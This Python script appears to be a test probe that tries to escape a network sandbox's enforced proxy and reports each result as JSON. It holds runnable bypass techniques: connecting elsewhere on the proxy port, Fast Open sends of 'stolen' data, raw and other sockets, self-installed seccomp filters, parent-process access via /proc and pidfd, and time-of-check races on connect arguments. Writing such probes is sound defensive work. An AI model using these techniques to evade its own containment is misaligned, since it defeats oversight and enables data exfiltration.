"""A station that looks for a way around its proxy: a script, standard library only.

hostile_connections.py ELSEWHERE FAMILY TRIES    an address at which a server listens on the port of the proxy
"""

import contextlib
import ctypes
import json
import os
import socket
import struct
import sys
import threading
import time

elsewhere, family, tries = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
port = int(os.environ["HTTPS_PROXY"].rpartition(":")[2])
libc = ctypes.CDLL(None, use_errno=True)
FASTOPEN, FASTOPEN_CONNECT, MPTCP = 0x20000000, 30, 262


def tcp(protocol=0):
    return socket.socket(socket.AF_INET, socket.SOCK_STREAM, protocol)


def connect(address):
    with tcp() as client:
        client.connect(address)


def disconnect(client):
    libc.connect(client.fileno(), struct.pack("=H14x", 0), 16)


def after_disconnecting():
    with tcp() as client:
        client.connect(("127.0.0.1", port))
        disconnect(client)
        client.connect((elsewhere, port))


def send(how):
    with tcp() as client:
        if how == "sendto":
            client.sendto(b"stolen", FASTOPEN, (elsewhere, port))
        else:
            client.sendmsg([b"stolen"], [], FASTOPEN, (elsewhere, port))


def connected_when_sent():
    with tcp() as client:
        client.setsockopt(socket.IPPROTO_TCP, FASTOPEN_CONNECT, 1)
        client.connect((elsewhere, port))
        client.send(b"stolen")


def bound():
    with tcp() as server:
        server.bind(("127.0.0.1", 0))


def listening():
    with tcp() as server:
        server.listen()


def other_listener_of_calls():
    """A filter of one's own that takes the calls first, and lets all of them go on."""
    steps = struct.pack("HBBI", 0x06, 0, 0, 0x7FC00000)
    kept = ctypes.create_string_buffer(steps, len(steps))
    program = struct.pack("HP", 1, ctypes.addressof(kept))
    number = {"x86_64": 317, "aarch64": 277}[os.uname().machine]
    if libc.syscall(number, 1, 1 << 3, ctypes.c_char_p(program)) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def outside():
    """The process that makes the connections: it is not fenced."""
    for way in (process_memory, process_socket):
        try:
            way(os.getppid())
        except OSError as error:
            refusal = error
        else:
            return
    raise refusal


def process_memory(process):
    with open(f"/proc/{process}/mem", "rb") as memory:
        memory.fileno()


def process_socket(process):
    if libc.syscall(438, os.pidfd_open(process), 3, 0) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


ATTACKS = {
    "same_port_elsewhere": lambda: connect((elsewhere, port)),
    "service_of_this_machine": lambda: connect(("127.0.0.1", 22 if port != 22 else 23)),
    "after_disconnecting": after_disconnecting,
    "sent_at_once": lambda: send("sendto"),
    "sent_at_once_by_message": lambda: send("sendmsg"),
    "connected_when_sent": connected_when_sent,
    "ipv6": lambda: socket.socket(socket.AF_INET6),
    "datagram": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM),
    "raw": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1),
    "several_paths": lambda: tcp(MPTCP),
    "bound": bound,
    "listening": listening,
    "other_listener_of_calls": other_listener_of_calls,
    "outside": outside,
}


def tried(attack):
    try:
        attack()
    except OSError as error:
        return f"{type(error).__name__}: {error}"
    return "reached"


def address(host):
    return struct.pack("=H", 2) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)


def race(change):
    """How often a connection led elsewhere, while another thread changes what is looked at."""
    led = 0
    place = ctypes.create_string_buffer(address("127.0.0.1"), 16)
    done = threading.Event()
    numbers = [tcp().detach(), tcp().detach()]
    flipping = threading.Thread(target=change, args=(place, numbers, done))
    flipping.start()
    for _ in range(tries):
        client = tcp()
        os.dup2(client.fileno(), numbers[0])
        libc.connect(numbers[0], place, 16)
        for number in (numbers[0], client.fileno()):
            peer = socket.socket(fileno=os.dup(number))
            with contextlib.suppress(OSError):
                led += peer.family == socket.AF_INET and peer.getpeername()[0] == elsewhere
            peer.close()
        client.close()
    done.set()
    flipping.join()
    return led


def flip_address(place, _numbers, done):
    hosts = [address("127.0.0.1"), address(elsewhere)]
    while not done.is_set():
        for host in hosts:
            ctypes.memmove(place, host, 16)


def flip_descriptor(place, numbers, done):
    """Of a socket that goes on by itself, and one that may not."""
    ctypes.memmove(place, address(elsewhere), 16)
    while not done.is_set():
        other = socket.socket(family, socket.SOCK_STREAM)
        os.dup2(other.fileno(), numbers[0])
        other.close()
        with tcp() as client:
            os.dup2(client.fileno(), numbers[0])


with open("port.new", "w") as file:
    file.write(str(port))
os.rename("port.new", "port")
while not os.path.exists("go"):
    time.sleep(0.01)
attacks = {name: tried(attack) for name, attack in ATTACKS.items()}
raced = {}
for name, change in (("address", flip_address), ("descriptor", flip_descriptor)):
    led = race(change)
    raced[name] = f"{led} times" if led else "never"
print(json.dumps({"attacks": attacks, "raced": raced}))
